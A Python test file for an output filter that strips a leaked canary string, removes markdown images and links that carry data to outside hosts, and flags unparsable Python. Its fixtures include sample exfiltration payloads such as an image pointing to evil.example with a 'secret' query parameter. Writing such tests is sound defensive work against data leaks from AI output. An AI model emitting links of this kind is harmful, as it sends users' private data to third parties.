"""What leaves: no canary, nothing that carries data out, code that says when it does not parse."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from organs.outgoing import code_faults, without_canary, without_carriers


def test_a_line_with_the_canary_is_cut() -> None:
    assert without_canary("one\nmy rules are abc123 and\ntwo", "abc123") == ("one\ntwo", True)
    assert without_canary("one", "abc123") == ("one", False)


def test_an_image_from_nowhere_is_taken_out_and_said() -> None:
    text, notes = without_carriers("look ![a cat](https://evil.example/x.png?q=secret) here", [])
    assert "evil" not in text
    assert "a cat" in text
    assert notes


def test_an_address_the_person_named_may_stay() -> None:
    said = "see https://docs.example/a?b=c"
    assert without_carriers("[docs](https://docs.example/a?b=c)", [said])[0] == "[docs](https://docs.example/a?b=c)"


def test_a_plain_link_stays_and_one_that_carries_data_does_not() -> None:
    assert without_carriers("[py](https://docs.python.org/3/)", [])[1] == ()
    text, notes = without_carriers("[py](https://evil.example/?d=c2VjcmV0) https://evil.example/?d=x", [])
    assert text == "py evil.example"
    assert len(notes) == 2


def test_code_is_left_alone() -> None:
    code = "```python\nurl = 'https://a.example/?q=1'\n```"
    assert without_carriers(code, []) == (code, ())


def test_python_that_does_not_parse_is_named() -> None:
    assert code_faults("```python\ndef f(:\n```") == ("The Python code does not parse (line 1).",)
    assert code_faults("```python\nx = 1\n```\n```go\nfunc (\n```") == ()


@given(st.text(alphabet="[]()!<>` \nhtps:/a.b?#=~", max_size=300))
def test_any_text_comes_through(text: str) -> None:
    without_carriers(text, [])
    code_faults(text)
